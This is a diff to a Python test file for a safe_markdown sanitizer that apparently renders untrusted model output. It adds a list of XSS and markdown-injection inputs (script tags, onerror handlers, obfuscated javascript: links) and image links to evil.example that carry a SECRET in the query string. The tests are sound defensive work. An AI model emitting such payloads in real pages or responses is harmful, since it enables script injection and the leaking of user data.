@@ -75,14 +75,46 @@ def test_same_mime_types_while_streaming_and_at_the_end():
     assert final[1]['boopiter']['status'] == 'done' and streaming[1]['boopiter']['status'] == 'streaming'
 
 
-def test_model_html_is_escaped_outside_code():
-    md = safe_markdown('a <script>x()</script> `<b>` [l](javascript:x()) ![i](https://evil/?q=1)\n'
-                       '```html\n<b>kept</b>\n```\nafter <img src=x onerror=y()>')
-    assert '<script>' not in md and '&lt;script>' in md
-    assert '`<b>`' in md and '<b>kept</b>' in md
-    assert 'javascript:' not in md
-    assert '![i]' not in md and '(https://evil/?q=1)' in md        # a link, not an image the browser fetches
-    assert '<img' not in md
+ATTACKS = {
+    'raw tags': 'a <script>x()</script> <img src=x onerror=y()> <svg/onload=z()>',
+    'escaped backtick opens no code span': 'Note: \\`<img src=x onerror=alert(1)>`',
+    'code span across a blank line': 'a ` b\n\n<img src=x onerror=alert(2)>\n\nc `',
+    'fence info with a backtick': '``` x`\n<img src=x onerror=alert(3)>\n```',
+    'fence in a list item, then a lazy line': '- item\n  ```\n<img src=x onerror=alert(4)>\n  ```',
+    'html block': '<details><summary>s</summary>\n\n<script>x()</script>\n</details>',
+    'comment': '<!-- hidden --> text',
+    'reference image': '![leak][r]\n\n[r]: https://evil.example/p.png?q=SECRET',
+    'image with a quoted title': "![leak](https://evil.example/p.png?q=SECRET 'x')",
+    'image with escaped slashes': '![leak](https:\\/\\/evil.example/p.png?q=SECRET)',
+    'image with an entity colon': '![leak](https&#58;//evil.example/p.png?q=SECRET)',
+    'protocol-relative image': '![x](//evil.example/a.png)',
+    'reference javascript link': '[click][j]\n\n[j]: javascript:alert(5)',
+    'entity javascript link': '[click](javascript&#58;alert(6))',
+    'mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
+    'autolink javascript': '<javascript:alert(1)>',
+    'table cell': '| a | b |\n|---|---|\n| <img src=x onerror=1> | `<b>` |',
+}
+
+
+@pytest.mark.parametrize('name', ATTACKS)
+def test_untrusted_markdown_is_defused(name):
+    from markdown_it import MarkdownIt
+    md = MarkdownIt('commonmark', {'html': True}).enable('table')
+    md.validateLink = lambda url: True
+    tokens = md.parse(safe_markdown(ATTACKS[name]))
+    flat = [c for t in tokens for c in [t, *(t.children or [])]]
+    assert not [t.content for t in flat if t.type in ('html_block', 'html_inline')]
+    assert not [t.attrGet('src') for t in flat if t.type == 'image' and 'evil' in (t.attrGet('src') or '')]
+    assert not [t.attrGet('href') for t in flat if t.type == 'link_open' and 'script' in t.attrGet('href').lower()]
+
+
+def test_defusing_keeps_code_and_ordinary_markdown():
+    text = ('Use `a < b` and **bold**, a [link](https://example.com) and ![plot](plot.png).\n\n'
+            '```html\n<b>kept exactly</b>\n```\n\n1. step\n\n   ```python\n   if a < b: pass\n   ```\n')
+    out = safe_markdown(text)
+    assert '```html\n<b>kept exactly</b>\n```' in out and '   if a < b: pass' in out
+    assert '[link](https://example.com)' in out and '![plot](plot.png)' in out and '`a < b`' in out
+    assert safe_markdown('see <https://example.com>') == 'see https://example.com'
 
 
 def test_close_fences_only_when_open():
